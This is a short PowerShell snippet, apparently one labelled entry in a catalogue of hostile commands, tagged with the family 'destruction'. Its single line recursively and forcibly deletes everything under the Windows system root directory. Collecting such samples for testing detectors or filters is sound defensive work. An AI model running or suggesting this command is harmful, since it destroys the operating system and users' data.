# description: Deletes everything under $env:SystemRoot.
# family: destruction
Remove-Item -Path "$env:SystemRoot\*" -Recurse -Force
